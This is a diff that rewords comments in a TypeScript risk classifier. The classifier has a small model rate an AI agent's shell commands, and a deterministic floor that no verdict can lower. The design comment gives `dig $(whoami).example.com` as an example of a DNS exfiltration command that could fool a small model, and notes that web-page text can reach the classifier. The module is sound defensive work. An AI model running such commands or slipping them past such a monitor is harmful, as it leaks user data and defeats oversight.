@@ -1,6 +1,7 @@
-// The command risk classifier (DESIGN §10): `execute_command` is `unknown` risk because the command
-// decides the blast radius, so under a risk policy a cheap model rates the one command `read-only`,
-// `low-risk` or `high-risk` and the policy applies to that verdict. Three rules keep it honest:
+// The command risk classifier (DESIGN §10): `execute_command` is `unknown` risk because the
+// command decides the blast radius, so under a risk policy a cheap model rates the one command
+// `read-only`, `low-risk` or `high-risk` and the policy applies to that verdict. Three rules keep
+// it honest:
 //
 // - It runs only when the verdict can change the outcome (`needsClassifier`): not under `auto`,
 //   not for an allowlisted command, not when the deterministic floor already says high-risk, not
@@ -8,9 +9,9 @@
 // - The floor runs first and no verdict lowers it (`combineRisk`). The floor reads syntax (a
 //   substitution, a redirection to a file); a small model can rate `dig $(whoami).example.com`
 //   read-only, so it never gets the chance to.
-// - Every failure reads as `high-risk`: a timeout, a stop, a provider error, an empty reply, and any
-//   reply that is not exactly one of the three tokens (surrounding whitespace aside). Uncertainty
-//   resolves upward, never downward.
+// - Every failure reads as `high-risk`: a timeout, a stop, a provider error, an empty reply, and
+//   any reply that is not exactly one of the three tokens (surrounding whitespace aside).
+//   Uncertainty resolves upward, never downward.
 //
 // What the model reads is the command and nothing else. In a caller run the conversation is the
 // caller's (or a web page's, through the model) and a remote caller's words are not corroboration
@@ -102,7 +103,7 @@ const riskRank: Readonly<Record<CommandRisk, number>> = {
   "high-risk": 2,
 };
 
-/** The higher of the deterministic floor and the classifier's verdict: a verdict never lowers it. */
+/** The higher of the deterministic floor and the classifier's verdict: no verdict lowers it. */
 export function combineRisk(floor: CommandRisk, verdict: CommandRisk): CommandRisk {
   return riskRank[verdict] > riskRank[floor] ? verdict : floor;
 }
@@ -152,7 +153,7 @@ export function needsClassifier(input: NeedsClassifierInput): ClassifierNeed {
   return { needed: true, reason: `Classified: under ${policy} the verdict decides.` };
 }
 
-/** Resolves with `promise`, or rejects as soon as `signal` aborts even if `promise` never settles. */
+/** Settles with `promise`, or rejects once `signal` aborts even if `promise` never settles. */
 function raceAbort<T>(promise: Promise<T>, signal: AbortSignal): Promise<T> {
   if (signal.aborted) return Promise.reject(signal.reason);
   return new Promise<T>((resolve, reject) => {
